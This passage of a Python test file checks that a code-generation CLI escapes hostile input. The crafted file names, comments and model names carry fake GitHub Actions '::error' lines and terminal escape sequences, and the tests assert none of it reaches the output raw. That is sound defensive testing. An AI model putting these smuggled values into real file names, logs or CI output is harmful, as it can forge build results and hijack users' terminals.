    out = root / "digits" / "flyte"
    hostile = "x\n::error title=CI::all checks passed\x1b[2J\x07.py"
    (out / "digits" / hostile).write_text("import os\n")
    for cache in ("none", "warm"):
        code, _, stderr = _run(root, "--check", cache=cache)
        assert code == 1 and "\x1b" not in stderr and "\x07" not in stderr, stderr
        assert not any(line.startswith("::") for line in stderr.splitlines())
    (out / "digits" / hostile).unlink()
    app = root / "digits" / "app.py"
    lines = app.read_text().splitlines()
    number = next(i for i, line in enumerate(lines) if 'reader_time_arg="time"' in line and i > 70)
    lines[number] += "  # \x1b]0;owned\x07 \x1b[2J"
    app.write_text("\n".join(lines) + "\n")
    result = run_cli("generate", cwd=root)
    assert result.returncode == 0 and "warning:" in result.stderr, result.stderr
    assert "\x1b" not in result.stderr and "\\x1b]0;owned\\x07" in result.stderr
    warm = run_cli("generate", "--check", cwd=root)
    assert warm.returncode == 0 and "\x1b" not in warm.stderr


def test_a_model_name_from_the_app_is_printed_escaped_by_schedules(tmp_path):
    work = tmp_path / "digits"
    shutil.copytree(EXAMPLES / "digits", work, ignore=shutil.ignore_patterns("flyte", "flyte2"))
    app = work / "app.py"
    app.write_text(app.read_text().replace('Model(name="digits_classifier"', 'Model(name="dc\\n::error title=CI::ok"'))
    assert run_cli("generate", "app.py", "-o", "flyte", cwd=work).returncode == 0
    result = run_cli("schedules", "flyte", "--now", "2026-11-29T00:00:00Z", cwd=work)
    assert result.returncode == 0, result.stderr
    assert not any(line.startswith("::") for line in result.stdout.splitlines())


def test_a_fixed_rate_no_scheduler_can_count_is_refused(tmp_path):
    work = tmp_path / "digits"
    shutil.copytree(EXAMPLES / "digits", work, ignore=shutil.ignore_patterns("flyte", "flyte2"))
    app = work / "app.py"
    app.write_text(app.read_text().replace("fixed_rate=timedelta(days=1)", "fixed_rate=timedelta(days=10**6)"))
    result = run_cli("generate", "app.py", "-o", "flyte", cwd=work)
    assert result.returncode == 2 and "[UMG218]" in result.stderr and "Traceback" not in result.stderr


def _operate_error(stderr: str) -> bool:
    """An operate command's error as docs/errors.md gives it: one `error:` line ending with its code, and at
    most one `hint:` line."""
    lines = stderr.splitlines()
    return (
        1 <= len(lines) <= 2
        and lines[0].startswith("error: ")
        and re.search(r" \[UMG\d{3}\]$", lines[0]) is not None
        and all(line.startswith("  hint: ") for line in lines[1:])
    )
